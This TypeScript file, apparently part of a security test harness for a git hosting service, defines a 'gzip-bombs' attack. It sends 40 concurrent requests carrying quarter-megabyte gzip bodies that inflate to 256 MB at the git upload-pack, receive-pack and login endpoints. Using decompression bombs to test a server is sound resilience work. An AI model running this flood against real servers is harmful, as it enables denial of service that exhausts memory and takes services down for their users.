import { gzipSync } from 'node:zlib'
import { fetchHeaders } from '../wire/fetch-request.ts'
import { hammer } from '../wire/hammer.ts'
import { pushHeaders } from '../wire/push-request.ts'
import { requestBytes } from '../wire/request.ts'
import { basic, type Sender } from '../wire/sender.ts'
import { type Attack, factOf } from './attack.ts'

const inflated = 256 * 1024 * 1024

export const gzipBombs: Attack = {
  name: 'gzip-bombs',
  about: '40 bodies at once of a quarter of a megabyte that inflate to 256 MB, at every door that inflates',
  doors: ['http'],
  roles: ['visitor', 'account'],
  async prepare({ shared, ownRepositories }) {
    await ownRepositories('bombs')
    return { repository: [shared.repository] }
  },
  play(play) {
    const repository = factOf(play, 'repository')
    const body = gzipSync(Buffer.alloc(inflated, 0x30))
    const zipped = { method: 'POST', body } as const
    const kindsFor = (sender: Sender) => [
      requestBytes({
        ...zipped,
        path: `/${repository}.git/git-upload-pack`,
        headers: { ...fetchHeaders, ...basic(sender), 'content-encoding': 'gzip' },
      }),
      requestBytes({
        ...zipped,
        path: '/api/auth/login',
        headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' },
      }),
      requestBytes({
        ...zipped,
        path: `/${sender.account?.username ?? 'nobody'}/bombs.git/git-receive-pack`,
        headers: { ...pushHeaders, ...basic(sender), 'content-encoding': 'gzip' },
      }),
    ]
    const made = new Map(play.senders.slice(0, 4).map((sender) => [sender, kindsFor(sender)]))
    // Bodies of a quarter of a megabyte each: four senders' are enough of them.
    return hammer(
      { ...play, senders: [...made.keys()] },
      { connections: 40, request: (sender, n) => made.get(sender)?.[n % 3] ?? body },
    )
  },
}
